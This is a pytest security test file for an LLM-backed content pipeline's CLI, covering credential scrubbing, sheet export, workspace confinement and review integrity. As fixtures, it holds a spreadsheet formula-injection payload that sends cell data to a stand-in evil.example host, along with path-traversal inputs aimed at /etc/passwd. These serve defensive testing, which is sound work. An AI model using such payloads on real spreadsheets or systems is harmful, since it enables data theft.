"""Leaks and integrity: no credential reaches an artifact, sheets carry no live formulas, a run is
resumed and read only inside its own workspace, review decisions are bound to the content the
reviewer read, a publish retry sends the same body, outputs follow the umask, and every damaged
artifact or bad argument is a message naming the file or flag (exit 2), never a traceback."""

import csv
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import time
import tomllib
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from cms_server import CMS
from conftest import REPO, make_workspace, run_dirs
from openai_server import ScriptedOpenAI, fill
from pipeline.cli import main
from pipeline.model import chat
from pipeline.review import publish
from test_run import FI, good

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CLEAN_ENV = {v: None for v in ("OPENAI_API_KEY", "OPENAI_BASE_URL", "LADDER_API_KEY", "LADDER_BASE_URL",
                               "LADDER_MODEL", "LADDER_GGUF", "LADDER_JUDGE_MODEL")}
COMMANDS = ("validate", "plan", "run", "check", "logs", "init", "report", "compare", "export", "review", "publish", "vocab")


def hostile(body: dict) -> dict:
    """The base fixture's replies, but the SMS (rendered as the bare text) opens with a formula."""
    if "SMS" in body["messages"][-1]["content"]:
        return fill(body, f"{FORMULA} {FI}")
    return good(body)


def invoke(*args: str):
    return CliRunner().invoke(main, list(args), catch_exceptions=False, env=CLEAN_ENV)


def drafted(ws: Path, server: ScriptedOpenAI, *args: str) -> Path:
    result = invoke("run", "-w", str(ws), "--base-url", server.base_url, "--model", "scripted", *args)
    assert result.exit_code in (0, 1), result.output + result.stderr
    return max((p for p in (ws / "outputs").iterdir() if p.is_dir()), key=lambda p: (p / "manifest.json").stat().st_mtime_ns)


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    """One real run (against the scripted loopback model) and its review sheet, built once per module."""
    ws = make_workspace(tmp_path_factory.mktemp("built"))
    with ScriptedOpenAI(hostile) as server:
        drafted(ws, server)
    sheet = ws / "review.csv"
    assert invoke("export", "-w", str(ws), "--format", "csv", "--to", str(sheet)).exit_code == 0
    rows = list(csv.DictReader(sheet.open(newline="", encoding="utf-8")))
    rows[0]["decision"] = "approve"
    with sheet.open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return ws


@pytest.fixture
def ws(built, tmp_path) -> Path:
    """A fresh copy of the built workspace, to damage."""
    return Path(shutil.copytree(built, tmp_path / "ws"))


def run_of(ws: Path) -> Path:
    (run,) = [p for p in (ws / "outputs").iterdir() if p.is_dir()]
    return run


def artifact_bytes(ws: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted((ws / "outputs").rglob("*")) if p.is_file())


# --- 1. credentials in URLs -------------------------------------------------------------------------

def test_credentials_and_query_strings_in_urls_reach_no_artifact_or_message(workspace):
    with ScriptedOpenAI(good) as server:
        port = server.base_url.split(":")[2].split("/")[0]
        url = f"http://llmuser:LLM-PW-5ecret@127.0.0.1:{port}/v1"
        result = invoke("run", "-w", str(workspace), "--base-url", url, "--model", "scripted")
        assert result.exit_code == 0, result.output + result.stderr
        logs = invoke("logs", "-w", str(workspace), "--json")
        with_query = invoke("run", "-w", str(workspace), "--base-url", f"{url}?api_key=QUERY-5ecret", "--model",
                            "scripted", "--segment", "cfo")
    run = run_dirs(workspace)[0]  # the first run: every job
    manifest = json.loads((run / "manifest.json").read_text())
    assert manifest["arguments"]["base_url"] == f"http://127.0.0.1:{port}/v1"  # recorded, scrubbed
    with CMS() as cms:
        cms_port = cms.url.split(":")[2].split("/")[0]
        to = f"http://cmsuser:CMS-PW-5ecret@127.0.0.1:{cms_port}/pieces?api_key=CMSQ-5ecret"
        published = invoke("publish", run.name, "-w", str(workspace), "--to", to)
    assert published.exit_code == 0, published.output + published.stderr
    assert len(cms.versions) == 7  # the query string went to the CMS, the id stayed in the path
    assert all(r["path"].endswith("?api_key=CMSQ-5ecret") for r in cms.requests)
    assert cms.requests[0]["headers"]["Authorization"].startswith("Basic ")  # the credentials as Basic auth
    down = invoke("publish", "-w", str(workspace), "--to", "http://u:CMS-PW-5ecret@127.0.0.1:9/x?k=CMSQ-5ecret")
    assert down.exit_code == 3
    with sqlite3.connect(workspace / "outputs" / "ladder.db") as db:
        assert {r[0] for r in db.execute("SELECT url FROM published")} == {f"http://127.0.0.1:{cms_port}/pieces"}
    seen = artifact_bytes(workspace).decode("utf-8", "replace") + "".join(
        r.output + r.stderr for r in (result, logs, with_query, published, down))
    for secret in ("LLM-PW-5ecret", "QUERY-5ecret", "CMS-PW-5ecret", "CMSQ-5ecret"):
        assert secret not in seen, secret


def test_a_malformed_url_is_refused_without_echoing_its_credentials(workspace):
    result = invoke("run", "-w", str(workspace), "--base-url", "http://u:pa/ss-5ecret@127.0.0.1/v1", "--model", "m")
    assert result.exit_code == 2 and "--base-url" in result.stderr and "5ecret" not in result.stderr + result.output


# --- 2. formula injection ---------------------------------------------------------------------------

def test_sheets_carry_no_live_formula_and_still_import(ws):
    assert invoke("review", "set", "testcamp.cfo.email", "changes", "--comment", "=1+1 and -tone it down",
                  "-w", str(ws)).exit_code == 0
    xlsx, csv_path = ws / "s.xlsx", ws / "s.csv"
    assert invoke("export", "-w", str(ws), "--format", "xlsx", "--to", str(xlsx)).exit_code == 0
    assert invoke("export", "-w", str(ws), "--format", "csv", "--to", str(csv_path)).exit_code == 0
    sheet = openpyxl.load_workbook(xlsx)["drafts"]
    header = [c.value for c in sheet[1]]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    texts = [r[header.index("text")].value for r in sheet.iter_rows(min_row=2)]
    assert any(t.startswith(f"'{FORMULA}") for t in texts)
    assert not any(isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    rows = list(csv.DictReader(csv_path.open(newline="", encoding="utf-8")))
    assert any(r["text"].startswith("'=HYPERLINK") for r in rows)
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    assert {r["comment"] for r in rows} >= {"'=1+1 and -tone it down"}
    # read back: the apostrophe is the sheet's, not the reviewer's
    assert invoke("review", "import", str(xlsx), "-w", str(ws)).exit_code == 0
    with sqlite3.connect(ws / "outputs" / "ladder.db") as db:
        assert db.execute("SELECT comment FROM decisions ORDER BY id DESC LIMIT 1").fetchone() == ("=1+1 and -tone it down",)


# --- 3. --resume stays in this workspace --------------------------------------------------------------

def test_resume_accepts_only_a_run_id_of_this_workspace_and_holds_its_lock(ws, tmp_path):
    other = Path(shutil.copytree(ws, tmp_path / "B"))
    a_run = run_of(ws)
    before = {p: p.read_bytes() for p in a_run.rglob("*") if p.is_file()}
    rel = os.path.relpath(a_run, other / "outputs")
    for ref in (rel, str(a_run), f"../../ws/outputs/{a_run.name}"):
        result = invoke("run", "-w", str(other), "--resume", ref, "--base-url", "http://127.0.0.1:9/v1", "--model", "m")
        assert result.exit_code == 2 and "--resume" in result.stderr and "not a run id" in result.stderr, ref
    (other / "outputs" / "linked").symlink_to(a_run, target_is_directory=True)
    linked = invoke("run", "-w", str(other), "--resume", "linked", "--base-url", "http://127.0.0.1:9/v1", "--model", "m")
    assert linked.exit_code == 2 and "no run 'linked'" in linked.stderr
    assert {p: p.read_bytes() for p in a_run.rglob("*") if p.is_file()} == before  # A untouched
    from pipeline.files import workspace_lock

    with workspace_lock(other / "outputs", "test"):  # the resumed run takes this workspace's lock
        busy = invoke("run", "-w", str(other), "--resume", a_run.name, "--base-url", "http://127.0.0.1:9/v1",
                      "--model", "m")
    assert busy.exit_code == 3 and "in use" in busy.stderr


# --- 4. a decision is bound to the run and content the reviewer read -----------------------------------

def test_sheet_decisions_are_bound_to_the_row_run_and_content_hash(workspace):
    sheet = workspace / "first.csv"
    with ScriptedOpenAI(good) as server:
        first = drafted(workspace, server)
        assert invoke("export", "-w", str(workspace), "--format", "csv", "--to", str(sheet)).exit_code == 0
    other = "Month-end close late? Cash flow and an audit trail by the 5th, for every finance director."
    with ScriptedOpenAI(lambda b: fill(b, other) if "Finance directors" in b["messages"][-1]["content"]
                        else good(b)) as server:
        second = drafted(workspace, server, "--no-cache")
    rows = list(csv.DictReader(sheet.open(newline="", encoding="utf-8")))
    header = list(rows[0])
    at = {r["id"]: i for i, r in enumerate(rows)}
    cfo, sms = at["testcamp.cfo.email"], at["testcamp.yrittajat.sms"]

    def write(edit) -> Path:
        changed = [dict(r) for r in rows]
        edit(changed)
        with sheet.open("w", newline="", encoding="utf-8") as f:
            w = csv.DictWriter(f, fieldnames=header)
            w.writeheader()
            w.writerows(changed)
        return sheet

    def bad(changed):
        changed[cfo] |= {"decision": "approve", "run_id": ""}
        changed[sms] |= {"decision": "approve", "content_hash": ""}
        changed[at["testcamp.cfo.landing_hero"]] |= {"decision": "approve", "content_hash": "0" * 64}
        changed[at["testcamp.yrittajat.email"]] |= {"decision": "approve", "run_id": "../elsewhere"}

    refused = invoke("review", "import", str(write(bad)), "-w", str(workspace))
    assert refused.exit_code == 2
    for line, cell in ((cfo + 2, "B"), (sms + 2, "M"), (at["testcamp.cfo.landing_hero"] + 2, "M"),
                       (at["testcamp.yrittajat.email"] + 2, "B")):
        assert f"{sheet}:{line} {cell}{line} " in refused.stderr, (line, refused.stderr)
    assert "blank" in refused.stderr and "not the content of testcamp.cfo.landing_hero" in refused.stderr
    with sqlite3.connect(workspace / "outputs" / "ladder.db") as db:
        assert db.execute("SELECT COUNT(*) FROM decisions").fetchone() == (0,)  # refused whole

    # the reviewer approved the first run's text: the second run's different text is not approved
    ok = invoke("review", "import", str(write(lambda c: c[cfo].update(decision="approve"))), "-w", str(workspace))
    assert ok.exit_code == 0, ok.stderr
    shipped = workspace / "approved.jsonl"
    assert invoke("export", "-w", str(workspace), "--format", "jsonl", "--approved-only", "--to", str(shipped)).exit_code == 0
    assert shipped.read_text() == ""
    first_hash = json.loads((first / "cfo" / "email.json").read_text())["content_hash"]
    second_hash = json.loads((second / "cfo" / "email.json").read_text())["content_hash"]
    assert first_hash != second_hash
    # `review set` binds to the latest run's current content
    said = invoke("review", "set", "testcamp.cfo.email", "approve", "-w", str(workspace))
    assert said.exit_code == 0 and f"content {second_hash[:12]}" in said.output
    with sqlite3.connect(workspace / "outputs" / "ladder.db") as db:
        assert db.execute("SELECT run_id, content_hash FROM decisions ORDER BY id").fetchall() == [
            (first.name, first_hash), (second.name, second_hash)]
    assert invoke("export", "-w", str(workspace), "--format", "jsonl", "--approved-only", "--to", str(shipped)).exit_code == 0
    assert [json.loads(x)["content_hash"] for x in shipped.read_text().splitlines()] == [second_hash]


# --- 5. files are read only inside the run folder -----------------------------------------------------

def test_an_output_path_out_of_the_run_folder_is_not_read(ws):
    results = run_of(ws) / "run_results.json"
    data = json.loads(results.read_text())
    data["results"][0]["output"] = "../../../../../../../../etc/passwd"
    results.write_text(json.dumps(data))
    out = ws / "all.jsonl"
    result = invoke("export", "-w", str(ws), "--format", "jsonl", "--to", str(out))
    assert result.exit_code == 2 and "run_results.json" in result.stderr and data["results"][0]["job_id"] in result.stderr
    assert "outside the run folder" in result.stderr and not out.exists()


# --- 6. a publish retry sends the same body ------------------------------------------------------------

def test_the_same_content_version_is_published_with_the_same_body(ws):
    with CMS() as cms:
        assert invoke("publish", "-w", str(ws), "--to", cms.url).exit_code == 0
        with sqlite3.connect(ws / "outputs" / "ladder.db") as db:  # killed after the CMS stored, before the ledger
            db.execute("DELETE FROM published")
        time.sleep(1.1)  # a clock-derived field would differ now
        assert invoke("publish", "-w", str(ws), "--to", cms.url).exit_code == 0
    by_key: dict[str, set[bytes]] = {}
    for r in cms.requests:
        by_key.setdefault(r["key"], set()).add(r["body"])
    assert len(by_key) == 7 and all(len(bodies) == 1 for bodies in by_key.values())
    assert len(cms.requests) == 14 and "exported_at" not in json.loads(cms.requests[0]["body"])


# --- 7. outputs follow the umask ---------------------------------------------------------------------

@pytest.mark.parametrize("mask, file_mode, dir_mode", [(0o022, 0o644, 0o755), (0o077, 0o600, 0o700)])
def test_outputs_follow_the_umask(ws, mask, file_mode, dir_mode):
    old = os.umask(mask)
    try:
        assert invoke("report", "-w", str(ws)).exit_code == 0
        for fmt in ("csv", "xlsx", "jsonl", "md"):
            assert invoke("export", "-w", str(ws), "--format", fmt).exit_code == 0
    finally:
        os.umask(old)
    run = run_of(ws)
    for name in ("report.html", "export.csv", "export.xlsx", "export.jsonl", "export.md/testcamp.cfo.email.md"):
        assert (run / name).stat().st_mode & 0o777 == file_mode, name
    assert (run / "export.md").stat().st_mode & 0o777 == dir_mode


def test_a_run_writes_its_files_with_the_umask(workspace):
    script = ("import os, sys; os.umask(0o022); from pipeline.cli import main; "
              "sys.argv[0] = 'ladder'; main()")
    with ScriptedOpenAI(good) as server:
        done = subprocess.run([sys.executable, "-c", script, "run", "-w", str(workspace), "--base-url", server.base_url,
                               "--model", "scripted", "--segment", "cfo"], capture_output=True, text=True,
                              env={**os.environ, "PYTHONPATH": str(REPO)}, timeout=120)
    assert done.returncode == 0, done.stderr
    files = [p for p in (workspace / "outputs").rglob("*") if p.is_file() and p.name != ".ladder.lock"]
    assert files and {oct(p.stat().st_mode & 0o777) for p in files if p.parent != workspace / "outputs"} == {"0o644"}


# --- 8. python -m ----------------------------------------------------------------------------------

@pytest.mark.parametrize("module", ["pipeline", "pipeline.cli"])
def test_python_m_lists_every_command(module):
    done = subprocess.run([sys.executable, "-m", module, "--help"], capture_output=True, text=True, timeout=60,
                          cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO)})
    assert done.returncode == 0, done.stderr
    listed = {line.split()[0] for line in done.stdout.split("Commands:")[1].splitlines() if line.strip()}
    assert listed == set(COMMANDS)


# --- 9. the license ---------------------------------------------------------------------------------

def test_the_license_file_is_the_apache_2_license_pyproject_names():
    text = (REPO / "LICENSE").read_text()
    assert "Apache License" in text and "Version 2.0, January 2004" in text
    assert "TERMS AND CONDITIONS FOR USE, REPRODUCTION, AND DISTRIBUTION" in text and "END OF TERMS AND CONDITIONS" in text
    assert len(text.splitlines()) > 190
    project = tomllib.loads((REPO / "pyproject.toml").read_text())["project"]
    assert project["license"] == "Apache-2.0" and project["license-files"] == ["LICENSE"]


# --- 10, 11. damaged artifacts and bad arguments: exit 2, the file or flag named, no traceback ----------

def _truncate(p: Path) -> None:
    p.write_bytes(p.read_bytes()[: len(p.read_bytes()) // 2])


def _garbage(p: Path) -> None:
    p.write_bytes(b"\x89PNG\r\n\x1a\n\xff\xfe\x00\x01 not json at all \xc3\x28" * 8)


def _shape(p: Path) -> None:
    p.write_text("[1, 2, 3]\n")


def _escape(to: str):
    def damage(p: Path) -> None:
        data = json.loads(p.read_text())
        data["results"][0]["output"] = to
        p.write_text(json.dumps(data))
    return damage


def _db_random(p: Path) -> None:
    p.write_bytes(bytes(range(256)) * 64)


def _db_text(p: Path) -> None:
    p.write_text("SQLite format 3? no: a note someone saved as ladder.db\n" * 40)


def _db_foreign(p: Path) -> None:
    p.unlink()
    with sqlite3.connect(p) as db:
        db.execute("CREATE TABLE decisions (id INTEGER PRIMARY KEY, note TEXT)")


# damage name → (which file, how, what the message must say)
DAMAGES = {
    "results-truncated": ("run_results.json", _truncate, "not valid JSON (line"),
    "results-garbage": ("run_results.json", _garbage, "not valid JSON"),
    "results-shape": ("run_results.json", _shape, "not a ladder run file"),
    "results-output-up": ("run_results.json", _escape("../../../../../../etc/passwd"), "outside the run folder"),
    "results-output-absolute": ("run_results.json", _escape("/etc/passwd"), "outside the run folder"),
    "manifest-truncated": ("manifest.json", _truncate, "not valid JSON (line"),
    "manifest-garbage": ("manifest.json", _garbage, "not valid JSON"),
    "job-truncated": ("cfo/email.json", _truncate, "not valid JSON (line"),
    "job-garbage": ("cfo/email.json", _garbage, "not valid JSON"),
    "db-random": ("ladder.db", _db_random, "not a ladder database"),
    "db-text": ("ladder.db", _db_text, "not a ladder database"),
}


def _target(ws: Path, name: str) -> Path:
    return ws / "outputs" / name if name == "ladder.db" else run_of(ws) / name


def _args(command: str, ws: Path) -> list[str]:
    w = ["-w", str(ws)]
    return {
        "report": ["report", *w],
        "compare": ["compare", run_of(ws).name, "latest", *w],
        "export": ["export", *w, "--format", "csv", "--to", str(ws / "x.csv")],
        "review-set": ["review", "set", "testcamp.cfo.email", "approve", *w],
        "review-import": ["review", "import", str(ws / "review.csv"), *w],
        "publish": ["publish", *w, "--to", "http://127.0.0.1:9/pieces"],
        "logs": ["logs", *w],
        "resume": ["run", *w, "--resume", "--base-url", "http://127.0.0.1:9/v1", "--model", "scripted"],
    }[command]


READS = {  # which damaged files each command reads
    "report": list(DAMAGES), "export": list(DAMAGES), "review-set": list(DAMAGES), "publish": list(DAMAGES),
    "review-import": list(DAMAGES),
    "compare": [d for d in DAMAGES if not d.startswith("db-")],
    "logs": ["db-random", "db-text"],
    "resume": ["manifest-truncated", "manifest-garbage", "job-truncated", "job-garbage", "db-random", "db-text"],
}
CASES = [(c, d) for c, ds in READS.items() for d in ds]


@pytest.mark.parametrize("command, damage", CASES, ids=[f"{c}:{d}" for c, d in CASES])
def test_a_damaged_artifact_is_a_message_naming_it(ws, command, damage):
    name, how, says = DAMAGES[damage]
    how(_target(ws, name))
    result = invoke(*_args(command, ws))
    shown = result.output + result.stderr
    assert result.exit_code == 2, shown
    assert name.split("/")[-1] in result.stderr and says in result.stderr, result.stderr
    assert "Traceback" not in shown and "root:" not in shown


def test_a_foreign_sqlite_file_is_not_a_ladder_database(ws):
    _db_foreign(ws / "outputs" / "ladder.db")
    result = invoke("logs", "-w", str(ws))
    assert result.exit_code == 2 and "ladder.db: not a ladder database (" in result.stderr


BAD_URLS = {
    "not-a-url": "notaurl",
    "file": "file:///etc/passwd",
    "ftp": "ftp://127.0.0.1/pieces",
    "port-too-big": "http://127.0.0.1:99999/x",
    "port-zero": "http://127.0.0.1:0/x",
    "port-not-a-number": "http://127.0.0.1:abc/x",
    "no-host": "http:///x",
    "space": "http://127.0.0.1 /x",
    "broken-ipv6": "http://[::1/x",
}
URL_CASES = ([("publish", "--to", k) for k in BAD_URLS] + [("run", "--base-url", k) for k in BAD_URLS]
             + [("plan", "--base-url", k) for k in ("not-a-url", "port-too-big")]
             + [("check", "--base-url", k) for k in ("file", "port-too-big")])


@pytest.mark.parametrize("command, flag, bad", URL_CASES, ids=[f"{c}{f}:{b}" for c, f, b in URL_CASES])
def test_a_bad_url_is_refused_up_front_naming_the_flag(ws, command, flag, bad, monkeypatch):
    url, built = BAD_URLS[bad], ws

    def no_call(*_args, **_kwargs):  # refused up front: no model or CMS call is even tried
        raise AssertionError(f"{command} tried a call to a refused URL")

    monkeypatch.setattr(chat.retry, "retrying", no_call)
    monkeypatch.setattr(publish, "retrying", no_call)
    args = {"publish": ["publish", "-w", str(built), "--to", url],
            "run": ["run", "-w", str(built), "--base-url", url, "--model", "m"],
            "plan": ["plan", "-w", str(built), "--estimate", "--base-url", url, "--model", "m"],
            "check": ["check", "-", "--step", "3", "--judge-model", "j", "--base-url", url, "-w", str(built)]}[command]
    outputs = built / "outputs"
    before = (outputs.exists(), sorted(outputs.rglob("*")) if outputs.exists() else [])
    result = CliRunner().invoke(main, args, catch_exceptions=False, env=CLEAN_ENV, input="text")
    assert result.exit_code == 2, result.output + result.stderr
    assert f"{flag}: not" in result.stderr and "Traceback" not in result.output + result.stderr
    after = (outputs.exists(), sorted(outputs.rglob("*")) if outputs.exists() else [])
    assert after == before  # up front: nothing written, not even outputs/, a run folder or the store


BAD_RESUMES = {
    "other-workspace": "../../A/outputs/{id}",
    "absolute": "{abs}",
    "dot-dot": "..",
    "dot": ".",
    "nested": "{id}/cfo",
    "backslash": "..\\{id}",
    "unknown": "20990101T000000Z-abcdef",
}


@pytest.mark.parametrize("ref", list(BAD_RESUMES))
def test_resume_refuses_anything_but_a_run_of_this_workspace(ws, ref):
    run = run_of(ws)
    shutil.copytree(ws, ws.parent / "A")  # another workspace with the same run in it
    value = BAD_RESUMES[ref].format(id=run.name, abs=str((ws.parent / "A" / "outputs" / run.name).resolve()))
    result = invoke("run", "-w", str(ws), "--resume", value, "--base-url", "http://127.0.0.1:9/v1", "--model", "m")
    assert result.exit_code == 2, result.output + result.stderr
    assert "--resume:" in result.stderr and "Traceback" not in result.output + result.stderr
    assert ("no run" if ref == "unknown" else "is not a run id") in result.stderr
